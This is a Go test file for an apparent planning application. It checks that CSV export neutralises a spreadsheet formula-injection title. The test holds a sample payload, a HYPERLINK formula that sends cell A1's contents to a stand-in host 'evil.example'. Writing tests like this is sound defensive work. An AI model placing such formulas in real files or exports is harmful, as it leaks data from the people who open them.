package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/performa-pa/performa/internal/seedtest"
	"github.com/performa-pa/performa/internal/store"
)

// The cases of the security and fault probe (issue 11), from the command
// line.

// A title saved through the edit form that a spreadsheet would run is
// written to CSV as text.
func TestProbeFormulaTitleToCSV(t *testing.T) {
	dsn := filepath.Join(t.TempDir(), "performa.db")
	if code, out, errs := runCmd(t, "import", seedtest.Path(t), "--db", dsn); code != 0 {
		t.Fatalf("import: %d %s %s", code, out, errs)
	}
	ctx := context.Background()
	st, err := store.Open(ctx, dsn)
	if err != nil {
		t.Fatal(err)
	}
	orgs, _ := st.Organizations(ctx)
	p, err := st.CurrentPlan(ctx, orgs[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	o := *p.Units[0].Objectives[0]
	loc, err := st.LocateObjective(ctx, orgs[0].ID, o.ID)
	if err != nil {
		t.Fatal(err)
	}
	o.Title = `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	if _, err := st.UpdateObjective(ctx, orgs[0].ID, &o, loc.Revision, "admin"); err != nil {
		t.Fatal(err)
	}
	st.Close()

	out := filepath.Join(t.TempDir(), "piano.csv")
	if code, stdout, errs := runCmd(t, "export", "--db", dsn, "--format", "csv", "--output", out); code != 0 {
		t.Fatalf("export: %d %s %s", code, stdout, errs)
	}
	data, _ := os.ReadFile(out)
	if !strings.Contains(string(data), `;"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")";`) {
		t.Errorf("the title is not neutralised in the CSV:\n%.2000s", data)
	}
	for _, line := range strings.Split(string(data), "\r\n") {
		for _, f := range strings.Split(line, ";") {
			if strings.HasPrefix(strings.TrimPrefix(f, `"`), "=") {
				t.Errorf("field %q would run as a formula", f)
			}
		}
	}
}
